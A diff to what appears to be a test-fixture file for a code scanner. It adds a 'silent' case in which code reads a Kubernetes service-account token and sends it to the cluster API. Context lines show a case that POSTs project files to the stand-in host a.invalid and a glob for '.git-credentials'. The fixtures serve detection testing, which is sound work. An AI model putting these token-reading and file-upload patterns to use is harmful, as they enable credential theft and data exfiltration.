@@ -367,6 +367,14 @@ for (const file of require('fast-glob').sync(['**/.git-credentials'], { cwd: req
   ],
   silent: [
     {
+      when: 'a detector of clusters shows its own cluster who it is, by one request with `hostname` and another with `host`',
+      files: {
+        'index.js': `const fs = require('fs'), https = require('https'); exports.Detector = class { SERVICE = 'kubernetes.default.svc'; TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';
+          async header() { return 'Bearer ' + (await fs.promises.readFile(this.TOKEN, 'utf8')); } ask(options) { return new Promise(done => https.request(options, done).end()); }
+          async is() { return this.ask({ headers: { Authorization: await this.header() }, hostname: this.SERVICE, path: '/api/v1/a' }); } async name() { return this.ask({ headers: { Authorization: await this.header() }, host: this.SERVICE, path: '/api/v1/b' }); } };`,
+      },
+    },
+    {
       when: 'files of a project are looked for by their names, and sent',
       files: {
         'index.js': `import { glob, readFile } from 'node:fs/promises'; for await (const name of glob(['dist/index.js', 'README.md'], { cwd: process.cwd() })) await fetch('https://a.invalid', { method: 'POST', body: await readFile(process.cwd() + '/' + name, 'utf8') });`,
